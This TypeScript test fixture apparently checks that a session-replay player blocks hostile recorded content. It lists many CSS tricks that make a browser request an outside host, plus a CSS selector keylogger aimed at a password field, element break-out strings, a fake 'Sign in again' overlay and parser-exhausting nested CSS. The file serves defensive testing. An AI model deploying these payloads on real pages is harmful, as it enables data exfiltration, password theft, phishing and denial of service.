import { type Recipe, recipe } from './attack.ts';
import { added, changed, IDS, increment, mutation } from './nodes.ts';

const BOX = 'width:9px;height:9px;display:block;';

/** Every way of CSS to ask for something. */
const asking = (away: string): string[] => [
  `@import url(${away}.css);`,
  `@import "${away}.css" layer(x) supports(display: block) screen;`,
  `@\\69mport "${away}.css";`,
  `@import/**/url("${away}.css");`,
  `@font-face { font-family: f; src: url(${away}.woff2) } body { font-family: f }`,
  `body { background: url(${away}) }`,
  `body { background: URL(\n"${away}"\n) }`,
  `body { background: u\\72l(${away}) }`,
  `body { background: url(${away.slice('https:'.length)}) }`,
  `h1::before { content: url(${away}) }`,
  `h1 { background: image-set("${away}" 1x) }`,
  `h1 { background: -webkit-image-set(url(${away}) 1x) }`,
  `h1 { background: cross-fade(url(${away}), url(${away}/2), 50%) }`,
  `h1 { background: image("${away}"); mask: url(${away}); -webkit-mask-image: url(${away}) }`,
  `h1 { border-image: url(${away}) 9; filter: url(${away}#f); clip-path: url(${away}#c) }`,
  `h1 { cursor: url(${away}), auto; list-style: url(${away}); display: list-item }`,
  `h1 { shape-outside: url(${away}); float: left; offset-path: url(${away}#p) }`,
  `html[lang] { --x: url(${away}); background: var(--x) }`,
  `h1 { --y: "${away}"; background: image-set(var(--y) 1x) }`,
  `@counter-style c { system: cyclic; symbols: url(${away}) } h1 { list-style: c }`,
  `@property --z { syntax: "<image>"; inherits: false; initial-value: url(${away}) } h1 { background: var(--z) }`,
  `@page { background: url(${away}) } @namespace url(${away});`,
  `h1 { background: paint(worklet); -ms-behavior: url(${away}); behavior: url(${away}); -moz-binding: url(${away}) }`,
  `@container style(--x) { h1 { background: url(${away}) } } @supports (color: red) { h1 { background: url(${away}) } }`,
  `h1 { background: src("${away}"); content: src("${away}"); background-image: url(${away} crossorigin(anonymous)) }`,
  `::cue { background: url(${away}) } ::-webkit-scrollbar { background: url(${away}) }`,
];

const rules = (css: readonly string[]) => css.map((rule, index) => ({ rule, index }));

export const styles: readonly Recipe[] = [
  recipe('sheets in the snapshot', ({ el, style, away }) => ({
    head: [
      ...asking(away).map(style),
      ...asking(away).map((_cssText) => el('style', { _cssText })),
      ...asking(away).map((_cssText) => el('link', { rel: 'stylesheet', href: away, _cssText })),
    ],
  })),
  recipe('declarations in the snapshot', ({ el, away }) => ({
    body: [
      el('div', { style: `${BOX}background:url(${away})` }),
      el('div', { style: `${BOX}background-image:image-set("${away}" 1x)` }),
      el('li', { style: `list-style:url('${away}');cursor:url(${away}),auto` }),
      el('div', { style: `${BOX}background:u\\72l(${away.replace('h', '\\68')})` }),
      el('div', { style: `${BOX}--a:url(${away});background:var(--a)` }),
      el('font', { style: `content:url(${away})`, face: away }),
    ],
  })),
  recipe('rules that come later', ({ style, away }) => {
    const sheet = style('b {}');
    return {
      head: [sheet],
      later: [
        ...asking(away).map((rule) => increment(8, { id: sheet.id, adds: [{ rule, index: 0 }] })),
        increment(8, { id: sheet.id, adds: [{ rule: '@media all { h1 { top: 0 } }', index: 0 }] }),
        increment(8, { id: sheet.id, adds: [{ rule: `h1 { background: url(${away}) }`, index: [0, 0] }] }),
        increment(8, {
          id: sheet.id,
          replaceSync: asking(away).join('\n'),
          replace: asking(away).join('\n'),
        }),
        increment(13, {
          id: sheet.id,
          index: [0],
          set: { property: 'background', value: `url(${away})`, priority: 'important' },
        }),
      ],
    };
  }),
  recipe('sheets that are adopted', ({ el, away }) => {
    const host = { ...el('div', {}, { ...el('b', {}), isShadow: true }), isShadowHost: true };
    return {
      body: [host],
      later: [
        ...[IDS.document, host.id].flatMap((id, n) =>
          asking(away).map((css, i) =>
            increment(15, {
              id,
              styleIds: [n * 100 + i + 1],
              styles: [{ styleId: n * 100 + i + 1, rules: rules([css]) }],
            }),
          ),
        ),
        increment(8, { styleId: 1, replaceSync: asking(away).join('\n') }),
        increment(15, { id: IDS.document, styleIds: [7_777] }),
        increment(15, { id: 'x', styleIds: 'y', styles: { rules: 1 } }),
      ],
    };
  }),
  recipe('styles that change', ({ el, style, away }) => {
    const box = el('div', { style: BOX });
    const sheet = style('b {}');
    const [first] = sheet.childNodes as { id: number }[];
    const link = el('link', { rel: 'stylesheet', _cssText: 'b {}' });
    return {
      head: [sheet, link],
      body: [box],
      later: [
        changed(box.id, {
          style: { background: `url(${away})`, cursor: [`url(${away}), auto`, 'important'] },
        }),
        changed(box.id, { style: `${BOX}background:url(${away})` }),
        changed(box.id, { style: { '--p': `url(${away})`, mask: 'var(--p)', 'background-image': false } }),
        mutation({ texts: [{ id: first?.id, value: asking(away).join('\n') }] }),
        changed(link.id, { _cssText: asking(away).join('\n') }),
        changed(link.id, { href: away, media: 'all', disabled: null }),
        added([sheet], IDS.head),
      ],
    };
  }),
  recipe('a style that was something else', ({ el, text, away }) => {
    // Whoever reads addresses of styles alone does not know these for styles.
    const inner = text(`h1 { background: url(${away}) }`);
    return {
      body: [el('svg', {}, { ...el('STYLE', {}, inner), isSVG: true }), el('p', {}, text('x'))],
      later: [
        added([{ type: 2, tagName: 'style', attributes: {}, childNodes: [], id: 700 }], 'body'),
        added([{ type: 2, tagName: 'style', attributes: {}, childNodes: [], id: 701 }]),
        added([{ type: 3, textContent: `h1 { background: url(${away}) }`, id: 702 }], 701),
        added([{ type: 3, textContent: `h1 { background: url(${away}) }`, id: 703 }], '701'),
      ],
    };
  }),
  recipe('fonts', ({ away }) => ({
    later: [
      increment(10, { family: 'f', fontSource: `url(${away})`, descriptors: {} }),
      increment(10, { family: 'f', fontSource: `url(${away.slice('https:'.length)})` }),
      increment(10, { family: 'f', fontSource: `url(data:font/woff,x), url(${away})`, buffer: false }),
      increment(10, { family: 'f', fontSource: 'x[', buffer: true }),
      increment(10, { family: { toString: 1 }, fontSource: null, descriptors: 7 }),
      changed(IDS.heading, { style: 'font-family: f' }),
    ],
  })),
  recipe('guesses at what is typed', ({ el, style, away }) => {
    const css = Array.from(
      { length: 60 },
      (_, n) => `input[value^="${n}"] { background: url(${away}/${n}) }`,
    );
    const field = el('input', { type: 'password', value: '7' });
    return {
      head: [style(css.join('\n'))],
      body: [field],
      later: [
        increment(5, { id: field.id, text: '42', isChecked: false }),
        changed(field.id, { value: '12' }),
      ],
    };
  }),
  recipe('an end of its element', ({ el, style, text, breakOut }) => ({
    head: [
      style(breakOut),
      el('style', { _cssText: breakOut, media: breakOut, type: breakOut }),
      el('link', { rel: 'stylesheet', _cssText: `h1 { color: red }${breakOut}` }),
      el('title', {}, text(breakOut)),
    ],
    body: [
      el('textarea', { value: breakOut }),
      el('textarea', {}, text(breakOut)),
      el('select', {}, el('option', { label: breakOut }, text(breakOut))),
      el('p', { title: breakOut, class: breakOut, id: breakOut }, text(breakOut)),
      ...['xmp', 'plaintext', 'noembed', 'noframes', 'listing', 'iframe'].map((tag) =>
        el(tag, {}, text(breakOut)),
      ),
    ],
    later: [mutation({ texts: [{ id: IDS.text, value: breakOut }] })],
  })),
  recipe('a page over our own', ({ el, text, style }) => ({
    head: [
      style(`:root, iframe, body { position: fixed !important; inset: -500px !important; z-index: 2147483647 !important;
        width: 9000px !important; height: 9000px !important; background: #fff }`),
    ],
    body: [
      el(
        'div',
        { style: 'position:fixed;inset:-999vmax;z-index:2147483647;background:#fff' },
        text('Sign in again'),
      ),
      el('div', { popover: 'manual', style: 'inset:-999px;width:99999px' }, text('Sign in')),
    ],
    later: [{ type: 3, data: { source: 1, positions: [{ x: -500, y: 9_000, id: 4, timeOffset: 0 }] } }],
  })),
  recipe('styles without an end', ({ el, style }) => ({
    head: [
      style(':has(:has(*)) { top: 0 }'),
      style(`${'*'.repeat(2_000)} { left: 0 }`),
      ...['a{', ':not(', '@media all{', '@supports (', 'h1{width:calc('].map((nested) =>
        style(nested.repeat(20_000)),
      ),
      style(`@supports ${'('.repeat(20_000)}`),
      style(
        `h1 { --a: ${'x'.repeat(1_000)}; --b: ${'var(--a)'.repeat(200)}; --c: ${'var(--b)'.repeat(200)}; width: var(--c) }`,
      ),
    ],
    body: [el('div', { style: `width:${'calc('.repeat(20_000)}` })],
  })),
  recipe('rules without an end', ({ style }) => {
    const sheet = style('b {}');
    const nested = ['a{', ':not('].map((one) => one.repeat(20_000));
    return {
      head: [sheet],
      later: [
        ...nested.map((rule) => increment(8, { id: sheet.id, adds: [{ rule, index: 0 }] })),
        ...nested.map((value) =>
          mutation({ texts: [{ id: (sheet.childNodes as { id: number }[])[0]?.id, value }] }),
        ),
        ...nested.map((rule) =>
          increment(15, { id: 1, styleIds: [1], styles: [{ styleId: 1, rules: [{ rule, index: 0 }] }] }),
        ),
        ...nested.map((value) => changed(IDS.heading, { style: { width: value }, class: value })),
      ],
    };
  }),
];
